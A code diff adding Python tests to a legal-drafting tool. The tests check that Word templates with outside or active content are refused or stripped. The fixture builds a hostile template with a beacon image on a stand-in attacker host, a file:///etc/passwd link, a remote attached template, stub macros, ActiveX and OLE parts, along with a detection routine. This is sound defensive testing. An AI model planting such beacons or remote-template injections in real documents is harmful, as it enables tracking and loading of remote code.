@@ -13,7 +13,10 @@ from docx.enum.section import WD_ORIENT
 from docx.shared import Mm, RGBColor
 
 from clauses.drafting import TemplateError
-from clauses.drafting.template import MAX_UNPACKED_BYTES, open_template
+from clauses.drafting.house import new_house_document
+from clauses.drafting.outside import OutsideContent
+from clauses.drafting.package import write_docx
+from clauses.drafting.template import MAX_UNPACKED_BYTES, check_template, open_template
 from clauses.library import Library
 from tests.conftest import AS_OF, make_profile
 from tests.drafting.helpers import (
@@ -311,3 +314,147 @@ def test_zip_with_a_lying_size_header_is_refused() -> None:
     data[size_at : size_at + 4] = (10).to_bytes(4, "little")
     with pytest.raises(TemplateError):
         open_template(bytes(data))
+
+
+# Content from outside, and content that runs (issue 20, finding 1): the probe's template had,
+# in its header, an image fetched from a web address and a file:// link, in its settings a
+# remote attached template, and macros; ActiveX controls and OLE objects travel the same way.
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PR = "http://schemas.openxmlformats.org/package/2006/relationships"
+RELS = '<Relationships xmlns="' + PR + '">{}</Relationships>'
+REL = '<Relationship Id="{}" Type="{}" Target="{}"{}/>'
+EXTERNAL = ' TargetMode="External"'
+BEACON = "http://attaquant.test/beacon.png"
+REMOTE_TEMPLATE = "https://attaquant.test/modele.dotm"
+HEADER_EXTRAS = (
+    '<w:hyperlink r:id="rIdFile"><w:r><w:t>Charte</w:t></w:r></w:hyperlink>'
+    '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
+    '<v:imagedata r:id="rIdBeacon"/></v:shape></w:pict></w:r>'
+    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'r:id="rIdOle"/></w:object></w:r>'
+)
+
+
+def hostile_template() -> bytes:
+    """:func:`council_template` with all of it: header image and link from outside, an OLE
+    object, a remote attached template, macros and an ActiveX control."""
+    header_rels = RELS.format(
+        REL.format("rIdBeacon", R + "image", BEACON, EXTERNAL)
+        + REL.format("rIdFile", R + "hyperlink", "file:///etc/passwd", EXTERNAL)
+        + REL.format("rIdOle", R + "oleObject", "embeddings/oleObject1.bin", "")
+    )
+    settings_rels = RELS.format(
+        REL.format("rIdTpl", R + "attachedTemplate", REMOTE_TEMPLATE, EXTERNAL)
+    )
+    added = {
+        "word/_rels/header1.xml.rels": header_rels.encode(),
+        "word/_rels/settings.xml.rels": settings_rels.encode(),
+        "word/embeddings/oleObject1.bin": OLE_SIGNATURE + b"\x00" * 64,
+        "word/vbaProject.bin": OLE_SIGNATURE + b"\x00" * 64,
+        "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
+    }
+
+    def change(name: str, content: bytes) -> bytes:
+        if not name.endswith((".xml", ".rels")):
+            return content
+        text = content.decode()
+        if name == "word/header1.xml":
+            text = text.replace("</w:p>", HEADER_EXTRAS + "</w:p>", 1)
+            if "xmlns:r=" not in text.split(">", 2)[1]:
+                text = text.replace("<w:hdr ", f'<w:hdr xmlns:r="{R_NS}" ', 1)
+        elif name == "word/settings.xml":
+            text = text.replace("</w:settings>", '<w:attachedTemplate r:id="rIdTpl"/></w:settings>')
+            if "xmlns:r=" not in text.split(">", 2)[1]:
+                text = text.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
+        elif name == "word/_rels/document.xml.rels":
+            text = text.replace(
+                "</Relationships>",
+                REL.format("rIdVba", MS + "vbaProject", "vbaProject.bin", "")
+                + REL.format("rIdAx", R + "control", "activeX/activeX1.xml", "")
+                + "</Relationships>",
+            )
+        elif name == "[Content_Types].xml":
+            text = text.replace(
+                "<Default ",
+                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                "<Default ",
+                1,
+            )
+        return text.encode()
+
+    with zipfile.ZipFile(io.BytesIO(council_template())) as source:
+        members = {
+            info.filename: change(info.filename, source.read(info)) for info in source.infolist()
+        }
+    return zip_of(members | added)
+
+
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+MS = "http://schemas.microsoft.com/office/2006/relationships/"
+OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def test_a_template_with_outside_or_active_content_is_refused_naming_it() -> None:
+    with pytest.raises(TemplateError) as refused:
+        check_template(hostile_template())
+    message = str(refused.value)
+    assert message.startswith("modèle Word refusé : il contient des éléments extérieurs ou actifs")
+    for expected in (
+        f"image externe « {BEACON} » (word/header1.xml)",
+        "lien « file:///etc/passwd » (word/header1.xml)",
+        f"modèle attaché « {REMOTE_TEMPLATE} » (word/settings.xml)",
+        "macros (VBA) (word/vbaProject.bin)",
+        "contrôle ActiveX (word/activeX/activeX1.xml)",
+        "objet incorporé (OLE) (word/embeddings/oleObject1.bin)",
+    ):
+        assert expected in message
+    assert check_template(council_template()) == []  # a clean template passes
+
+
+def external_and_active(content: bytes) -> list[str]:
+    """The external relationships (but Légifrance links) and the active parts of a package."""
+    found = []
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        for name in package.namelist():
+            if re.search(r"vba|activeX/|embeddings/", name, re.IGNORECASE):
+                found.append(name)
+            if name.endswith(".rels"):
+                for rel in re.findall(r"<Relationship [^>]*>", package.read(name).decode()):
+                    target = re.search(r'Target="([^"]*)"', rel)
+                    external = 'TargetMode="External"' in rel
+                    own = target is not None and target[1].startswith(
+                        "https://www.legifrance.gouv.fr/"
+                    )
+                    if (external and not own) or re.search(
+                        r"attachedTemplate|vbaProject|/control\"|oleObject", rel
+                    ):
+                        found.append(rel)
+    return found
+
+
+def test_a_stored_hostile_template_is_drafted_without_its_outside_content(
+    library: Library,
+) -> None:
+    """A template stored before uploads were checked: its draft holds none of it, the header's
+    text stays, and the drafter's own Légifrance links are there."""
+    result = make_draft(make_profile(), library, AS_OF, template=hostile_template())
+    assert external_and_active(result.content) == []
+    assert "attachedTemplate" not in part_xml(result.content, "word/settings.xml")
+    header = reopen(result.content).sections[0].header
+    assert header.paragraphs[0].text == HEADER_TEXT + "Charte"  # the link's text, unlinked
+    assert "https://www.legifrance.gouv.fr/" in part_xml(
+        result.content, "word/_rels/document.xml.rels"
+    )
+
+
+def test_no_word_file_is_written_with_outside_content() -> None:
+    """The last check, whatever put it there."""
+    document = new_house_document()
+    document.part.relate_to(BEACON, R + "image", is_external=True)
+    with pytest.raises(OutsideContent):
+        write_docx(document, AS_OF)
+    clean = new_house_document()
+    clean.part.relate_to(
+        "https://www.legifrance.gouv.fr/codes/article_lc/X", R + "hyperlink", is_external=True
+    )
+    assert write_docx(clean, AS_OF)
